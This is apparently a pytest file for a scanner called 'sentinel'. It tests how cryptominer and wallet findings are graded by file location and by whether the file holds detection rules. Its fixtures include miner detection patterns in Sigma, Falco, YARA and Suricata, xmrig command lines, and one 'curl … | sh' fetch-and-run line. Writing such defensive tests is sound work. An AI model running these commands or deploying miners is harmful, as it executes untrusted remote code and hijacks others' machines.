"""Grading of file findings by place and content (sentinel/rules/filecontext.py)."""

from __future__ import annotations

import json

import pytest

from sentinel.core.model import Category, Finding, Severity
from sentinel.rules import wallets
from sentinel.rules.filecontext import detection_content, grade, package_place

SIGMA = (
    "title: Miner flags\nid: 1\nlogsource:\n  product: linux\ndetection:\n  sel:\n"
    "    CommandLine|contains: '--donate-level=1'\n  condition: sel\nlevel: high\n"
)
FALCO = (
    "- macro: m\n  condition: proc.name = x\n- rule: Miner\n  desc: d\n"
    '  condition: proc.cmdline contains "stratum+tcp://"\n  output: o\n  priority: WARNING\n'
)
YARA = (
    '/* miner rules */\nimport "pe"\nrule r : t {\n strings:\n  $a = "stratum+tcp://"\n'
    "  $h = { 4D 5A }\n  $r = /-o [a-z.]{2,9}:\\d+/\n condition:\n  any of them\n}\n"
)
SURICATA = (
    '# c\nalert tcp any any -> any any (msg:"miner"; content:"mining.subscribe"; sid:1; rev:1;)\n'
)
CATALOGUE = '[lists]\nx = ["a"]\n\n[[rule]]\nid = "a.b"\nevent = "text"\n'
IOC = "# pools\nstratum+tcp://a.test:1\nb.test:3333\n198.51.100.9:4444\n"


@pytest.mark.parametrize(
    ("text", "shape"),
    [
        (SIGMA, "sigma rule"),
        (FALCO, "falco rule"),
        (YARA, "yara rule"),
        (SURICATA, "suricata/snort rule"),
        (CATALOGUE, "sentinel rule catalogue"),
        (IOC, "indicator list"),
    ],
)
def test_detection_content_by_shape(text: str, shape: str) -> None:
    assert detection_content(text.encode()) == shape


@pytest.mark.parametrize(
    "text",
    [
        "#!/bin/sh\n" + YARA,  # a script with a shebang is never rule content
        SIGMA + "pools:\n  - url: a.test:3333\n",  # a key Sigma does not have
        json.dumps({"logsource": {}, "detection": {}, "pools": []}),  # JSON is YAML
        FALCO + "./xmrig -o a.test:3333\n",  # a line that is no Falco item
        "/*\ncurl -s http://198.51.100.1/x | sh\n*/\nrule a { condition: true }\n",
        YARA + "echo done\n",  # text outside the rules
        SURICATA + "nohup ./x &\n",
        'alert tcp any any -> any any (msg:"no sid"; rev:1;)\n',
        "rule a { condition: true }\n/* never closed\n",
        CATALOGUE + "[pools]\nurl = 'a.test:1'\n",
        "./xmrig\n-o a.test:3333 -u x\nthird\n",  # a line with spaces: not a list
        "a.test:1\nb.test:2\n",  # two lines are too few to call a list
        "[RandomX]\nwallet=4abc\npool1=a.test:3333\n",  # nanominer's config.ini, no spaces
        "-pool\na.test:3333\n-wal\n4abc\n",  # PhoenixMiner's config.txt, a word a line
    ],
)
def test_look_alikes_are_not_detection_content(text: str) -> None:
    assert detection_content(text.encode()) is None


@pytest.mark.parametrize(
    ("path", "place"),
    [
        ("/usr/lib/python3/dist-packages/x/y.py", "dist-packages"),
        ("/srv/app/node_modules/lib/fixtures.json", "node_modules"),
        ("/home/u/v/lib/site-packages/crypt/tests/vectors.txt", "site-packages/.../tests"),
        ("/home/u/lib/tests/vectors.txt", None),  # a tests/ outside an installed tree
        ("/tmp/test/notes.txt", None),
        ("/home/u/tests.txt", None),
        ("/tmp/test_wallet/w.txt", None),
    ],
)
def test_package_place(path: str, place: str | None) -> None:
    assert package_place(path) == place


@pytest.mark.parametrize(
    ("before", "keyed"),
    [
        ('"user": "', True),
        ("--wallet=", True),
        ("-u ", True),
        ("payout address: ", True),
        ("WALLET=", True),
        ("tx from ", False),
        ("--out ", False),
    ],
)
def test_wallet_key_before_an_address(before: str, keyed: bool) -> None:
    assert wallets.keyed(before) is keyed


def _wallet(kind: str, keyed: bool, severity: Severity = Severity.LOW) -> Finding:
    evidence = {"wallets": [{"kind": kind, "address": "x", "keyed": keyed}]}
    return Finding("yara.w", Category.WALLET, severity, "w", "yara", evidence=evidence)


def test_wallet_grades() -> None:
    assert grade("/tmp/a", b"x", [_wallet("monero", False)])[0].severity is Severity.MEDIUM
    assert grade("/tmp/a", b"x", [_wallet("ethereum", True)])[0].severity is Severity.MEDIUM
    assert grade("/tmp/a", b"x", [_wallet("bitcoin", False)])[0].severity is Severity.LOW
    (vector,) = grade("/v/site-packages/m/t.txt", b"x", [_wallet("monero", False)])
    assert vector.severity is Severity.LOW
    assert vector.evidence["severity_before"] == "medium"
    assert vector.evidence["context"] == "in a package or test tree (site-packages)"


def test_detection_content_caps_all_but_integrity() -> None:
    miner = Finding("yara.m", Category.MINER, Severity.HIGH, "m", "yara")
    timeout = Finding("integrity.scan_timeout", Category.INTEGRITY, Severity.MEDIUM, "t", "yara")
    capped, kept = grade("/x/rules.yml", SIGMA.encode(), [miner, timeout])
    assert capped.severity is Severity.LOW and capped.evidence["context"] == (
        "detection content (sigma rule)"
    )
    assert kept is timeout


def test_ungraded_findings_come_back_unchanged() -> None:
    miner = Finding("yara.m", Category.MINER, Severity.HIGH, "m", "yara")
    assert grade("/tmp/run.sh", b"./xmrig\n", [miner]) == [miner]
    assert grade("/tmp/run.sh", b"", []) == []
